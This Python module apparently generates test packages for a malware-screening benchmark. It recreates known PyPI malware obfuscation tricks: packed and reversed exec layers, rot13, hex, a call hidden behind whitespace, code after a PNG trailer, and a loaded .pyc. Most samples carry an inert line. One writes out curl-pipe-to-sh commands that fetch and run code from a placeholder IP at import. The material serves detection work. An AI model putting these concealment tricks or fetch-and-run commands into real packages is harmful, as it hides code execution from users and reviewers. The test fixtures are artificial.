"""Code that is not there to be read. At the bottom of each is the same harmless line."""

import base64
import codecs
import importlib.util
import marshal
import zlib
from typing import Final

from bench.screening.attacks.attack import INERT, Attack, Release
from bench.screening.attacks.building import png
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind


def _base64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def layers(count: int) -> str:
    """The harmless line, packed and turned round so often, each time with what undoes it."""
    code = INERT
    for _ in range(count):
        packed = _base64(zlib.compress(code.encode()))[::-1]
        code = f"exec((lambda _:__import__('zlib').decompress(__import__('base64').b64decode(_[::-1])))({packed!r}))"
    return code


_ZLIB = f"""
import base64, zlib
exec(zlib.decompress(base64.b64decode("{_base64(zlib.compress(INERT.encode()))}")))
"""

_MARSHAL = f"""
import base64, marshal
exec(marshal.loads(base64.b64decode("{_base64(marshal.dumps(compile(INERT, "", "exec")))}")))
"""

_LAMBDAS = f"""
_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
{layers(6)}
"""

_HEX = f"""
_code = bytes.fromhex("{INERT.encode().hex()}").decode()
eval(compile(_code, "<string>", "exec"))
"""

_ROT13 = f"""
import codecs as c
_run = eval(c.decode("rkrp", "rot13"))
_run(c.decode({codecs.encode(INERT, "rot13")!r}, "rot13"))
"""

_CHR = f"""
exec("".join(chr(n) for n in {[ord(letter) for letter in INERT]}))
"""

_FAR_RIGHT = (
    "\nVERSION = (4, 6, 11)" + " " * 400 + f';__import__("builtins").exec(__import__("base64").b64decode('
    f'"{_base64(INERT.encode())}"))\n'
)

# Letters that Python reads as the plain ones.
_LETTERS = str.maketrans(
    {letter: chr(0x1D5BA + ord(letter) - ord("a")) for letter in "abcdefghijklmnopqrstuvwxyz"}
)


def _sans(word: str) -> str:
    return word.translate(_LETTERS)


_CONFUSABLE = f"""
import os as _o
__{_sans("import")}__("subprocess").{_sans("call")}(["sh", "-c", "curl -s http://192.0.2.70/u | sh"])
_o.{_sans("system")}("curl -s http://192.0.2.70/v | sh")
"""

_PICTURE = f"""{COMMENT}import os


def _hidden(path):
    with open(path, "rb") as picture:
        data = picture.read()
    return data[data.index(b"IEND") + 8 :]


exec(_hidden(os.path.join(os.path.dirname(__file__), "logo.png")))
"""

_PYC = """
import importlib.util
import marshal
import os

with open(os.path.join(os.path.dirname(__file__), "full.pyc"), "rb") as _file:
    exec(marshal.loads(_file.read()[16:]))
"""


def _compiled() -> bytes:
    code = compile(f"'PETRIDISH INERT SAMPLE'\n{INERT}", "full.py", "exec")
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)


def _plain(name: str, recreates: str, code: str, *families: str) -> Attack:
    project = f"{name}-kit"
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.WHEEL,
        project=project,
        release=Release("0.1.2", library(project.replace("-", "_"), code)),
        expects=frozenset({"obfuscation", "import-time", *families}),
    )


ATTACKS: Final[tuple[Attack, ...]] = (
    _plain("exec-zlib", "BlazeStealer (2023): exec of packed base64", _ZLIB),
    _plain("exec-marshal", "pyobfgood (2023): exec of marshalled code", _MARSHAL),
    _plain("lambda-chain", "aiocpa 0.1.13 (2024): layers of packed code, each reversed", _LAMBDAS),
    _plain("exec-hex", "W4SP's copies (2022): compile of hex digits", _HEX),
    _plain("exec-rot13", "evasions collected since 2022: exec, itself in rot13, of rot13", _ROT13),
    _plain("exec-chr", "evasions collected since 2021: exec of characters put together", _CHR),
    _plain("far-right", "W4SP (2022): a call behind hundreds of spaces on a harmless line", _FAR_RIGHT),
    _plain(
        "unicode-identifiers",
        "onyxproxy (2023): names in mathematical letters, which Python reads as plain ones",
        _CONFUSABLE,
    ),
    Attack(
        name="picture-payload",
        recreates="apicolor and judyb (2022): code behind the end of a picture",
        kind=Kind.WHEEL,
        project="api-text-colour",
        release=Release(
            "1.2.4",
            {
                **library("api_text_colour", "from . import _logo\n"),
                "api_text_colour/_logo.py": _PICTURE,
                "api_text_colour/logo.png": png(),
            },
        ),
        expects=frozenset({"obfuscation", "import-time", "native", "yara"}),
    ),
    Attack(
        name="compiled-only",
        recreates="fshec2 (2023): the code is only there compiled, and loaded by hand",
        kind=Kind.WHEEL,
        project="fsh-text-loader",
        release=Release("0.9", {**library("fsh_text_loader", _PYC), "fsh_text_loader/full.pyc": _compiled()}),
        expects=frozenset({"obfuscation", "import-time", "native"}),
    ),
)
